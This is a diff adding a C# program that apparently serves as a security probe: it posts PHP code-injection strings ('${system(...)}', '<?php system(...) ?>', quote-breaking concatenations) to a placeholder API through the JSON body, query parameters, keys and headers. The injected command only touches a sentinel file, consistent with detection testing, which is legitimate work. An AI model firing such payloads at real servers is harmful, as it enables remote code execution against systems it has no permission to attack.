@@ -1,0 +1,51 @@
+using System;
+using System.Net.Http;
+using System.Threading.Tasks;
+
+class Program
+{
+    static readonly HttpClient client = new HttpClient();
+
+    static void Main() => MainAsync().GetAwaiter().GetResult();
+
+    static async Task MainAsync()
+    {
+        var body = @"{
+  ""values"": [
+    ""{${system('touch SENTINEL_PATH')}}"",
+    ""${system('touch SENTINEL_PATH')}"",
+    ""' . system('touch SENTINEL_PATH') . '"",
+    ""\"" . system(\""touch SENTINEL_PATH\"") . \"""",
+    ""<?php system(\""touch SENTINEL_PATH\""); ?>""
+  ],
+  ""keys"": {
+    ""{${system('touch SENTINEL_PATH')}}"": 0,
+    ""${system('touch SENTINEL_PATH')}"": 1,
+    ""' . system('touch SENTINEL_PATH') . '"": 2,
+    ""\"" . system(\""touch SENTINEL_PATH\"") . \"""": 3,
+    ""<?php system(\""touch SENTINEL_PATH\""); ?>"": 4
+  },
+  ""nested"": {
+    ""deeper"": [
+      {
+        ""text"": ""{${system('touch SENTINEL_PATH')}} ${system('touch SENTINEL_PATH')} ' . system('touch SENTINEL_PATH') . ' \"" . system(\""touch SENTINEL_PATH\"") . \"" <?php system(\""touch SENTINEL_PATH\""); ?>""
+      }
+    ]
+  }
+}";
+
+        var request = new HttpRequestMessage(HttpMethod.Post, "https://api.example.com/v1/payloads?value0=%7B%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D%7D&%7B%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D%7D=key0&value1=%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D&%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D=key1&value2=%27%20.%20system%28%27touch%20SENTINEL_PATH%27%29%20.%20%27&%27%20.%20system%28%27touch%20SENTINEL_PATH%27%29%20.%20%27=key2&value3=%22%20.%20system%28%22touch%20SENTINEL_PATH%22%29%20.%20%22&%22%20.%20system%28%22touch%20SENTINEL_PATH%22%29%20.%20%22=key3&value4=%3C%3Fphp%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%3F%3E&%3C%3Fphp%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%3F%3E=key4");
+        request.Content = new StringContent(body);
+        request.Content.Headers.Remove("Content-Type");
+        request.Content.Headers.TryAddWithoutValidation("Content-Type", "application/json");
+        request.Headers.TryAddWithoutValidation("Authorization", "Bearer {${system('touch SENTINEL_PATH')}}");
+        request.Headers.TryAddWithoutValidation("X-Payload-0", "{${system('touch SENTINEL_PATH')}}");
+        request.Headers.TryAddWithoutValidation("X-Payload-1", "${system('touch SENTINEL_PATH')}");
+        request.Headers.TryAddWithoutValidation("X-Payload-2", "' . system('touch SENTINEL_PATH') . '");
+        request.Headers.TryAddWithoutValidation("X-Payload-3", "\" . system(\"touch SENTINEL_PATH\") . \"");
+        request.Headers.TryAddWithoutValidation("X-Payload-4", "<?php system(\"touch SENTINEL_PATH\"); ?>");
+
+        var response = await client.SendAsync(request);
+        Console.WriteLine(await response.Content.ReadAsStringAsync());
+    }
+}
